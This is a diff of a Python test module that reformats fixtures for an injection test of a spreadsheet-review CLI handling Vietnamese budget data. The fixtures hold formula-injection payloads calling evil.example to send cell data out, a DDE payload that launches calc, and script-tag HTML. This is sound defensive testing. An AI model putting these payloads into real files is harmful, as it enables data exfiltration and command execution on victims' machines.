@@ -30,12 +30,12 @@ HOSTILE_NAMES = [
     "\t=1+1 Đường tab",
     "\r=1+1 Đường CR",
 ]
-HOSTILE_INVESTOR = "=WEBSERVICE(\"http://evil.example/\"&B14)"
-HOSTILE_NOTE = "@IMPORTXML(\"http://evil.example\")"
+HOSTILE_INVESTOR = '=WEBSERVICE("http://evil.example/"&B14)'
+HOSTILE_NOTE = '@IMPORTXML("http://evil.example")'
 HTML_NAME = "<script>alert('memo')</script> Trường <b>Mường Bú</b>"
 # The memo names capital sources by the sheet's own group label (matched to NSDP_CAN_DOI).
 HTML_SOURCE = "Vốn cân đối ngân sách địa phương <script>alert('nguồn')</script>"
-HOSTILE_REASON = "=HYPERLINK(\"http://evil.example\",\"lý do\")"
+HOSTILE_REASON = '=HYPERLINK("http://evil.example","lý do")'
 HOSTILE_APPROVER = "+Giám đốc|' /C calc'!A0"
 
 # Our formulas: SUM/SUBTOTAL/IF/IFERROR over plain cell references and arithmetic on them.
@@ -51,8 +51,9 @@ def _hostile_workbook(folder: Path) -> Path:
         for i, name in enumerate(HOSTILE_NAMES, start=1)
     ]
     lines.append(line("7910099", HTML_NAME, disbursed="100"))
-    lines.append(line("7920001", "Trường THCS xã Chiềng Mung", status="new", disbursed="0",
-                      extra_need_dong="3.000"))
+    lines.append(
+        line("7920001", "Trường THCS xã Chiềng Mung", status="new", disbursed="0", extra_need_dong="3.000")
+    )
     for record in lines:
         record["capital_source_label"] = HTML_SOURCE
     path = folder / "=kehoach.xlsx"  # the file name itself reaches the "where" columns
@@ -74,8 +75,20 @@ def outputs(tmp_path_factory) -> tuple[Path, Path, str]:
     folder = tmp_path_factory.mktemp("injection")
     source = _hostile_workbook(folder)
     out = folder / "out"
-    result = CliRunner().invoke(cli, ["review", str(source), "--round", "1", "--no-audit",
-                                      "--overrides", str(_overrides(folder)), "--out", str(out)])
+    result = CliRunner().invoke(
+        cli,
+        [
+            "review",
+            str(source),
+            "--round",
+            "1",
+            "--no-audit",
+            "--overrides",
+            str(_overrides(folder)),
+            "--out",
+            str(out),
+        ],
+    )
     assert result.exit_code == 0, result.output
     return source, out, result.output
 
